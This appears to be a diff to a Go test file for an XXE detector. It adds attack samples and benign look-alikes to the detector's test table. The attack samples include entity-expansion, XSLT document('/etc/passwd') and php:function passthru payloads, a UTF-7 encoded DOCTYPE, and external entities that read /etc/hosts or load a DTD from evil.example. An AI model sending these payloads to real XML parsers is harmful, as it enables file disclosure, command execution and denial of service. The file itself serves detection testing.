@@ -11,6 +11,10 @@ var family = matchtest.Family{
 	Find:     xxe.Find,
 	Triggers: xxe.Triggers,
 	Attacks: []matchtest.Attack{
+		{Rule: "multiplying_entity", Text: `<!DOCTYPE q [<!ENTITY a "a"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>`},
+		{Rule: "stylesheet_function", Text: `<xsl:value-of select="document('/etc/passwd')"/>`},
+		{Rule: "stylesheet_function", Text: `<xsl:value-of select="php:function('passthru','id')"/>`},
+		{Rule: "utf7_declaration", Text: "+ADwAIQ-DOCTYPE foo+AFs +ADwAIQ-ENTITY q SYSTEM +ACI-file:///x+ACI +AD4AXQA+-"},
 		{Rule: "external_entity", Text: `<?xml version="1.0"?><!DOCTYPE q [<!ENTITY z SYSTEM "file:///etc/hosts">]><q>&z;</q>`},
 		{Rule: "external_entity", Text: `<!DOCTYPE q [ <!ENTITY % z SYSTEM "http://evil.example/a.dtd"> %z; ]>`},
 		{Rule: "external_entity", Text: `<!DOCTYPE q [<!ENTITY z PUBLIC "any" 'http://evil.example/a'>]>`},
@@ -23,6 +27,7 @@ var family = matchtest.Family{
 		{Rule: "inclusion", Text: `<q xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hosts"/></q>`},
 	},
 	Benign: []string{
+		`<!ENTITY chapter1 SYSTEM "chapter1.xml">`, `<!DOCTYPE rss PUBLIC " - //Netscape Communications//DTD RSS 0.91//EN" "http://p.example/rss-0_91.dtd">`, `x="document('')"`, `select="document('names.xml')"`,
 		"<!DOCTYPE html><html></html>", `<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/strict.dtd">`,
 		`<!DOCTYPE properties SYSTEM "http://java.sun.com/dtd/properties.dtd">`, `<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">`,
 		`<!DOCTYPE note SYSTEM "note.dtd"><note/>`, `<!DOCTYPE q [<!ENTITY copy "&#169;">]>`, "Declare it with <!ENTITY name \"value\"> in the DTD.",
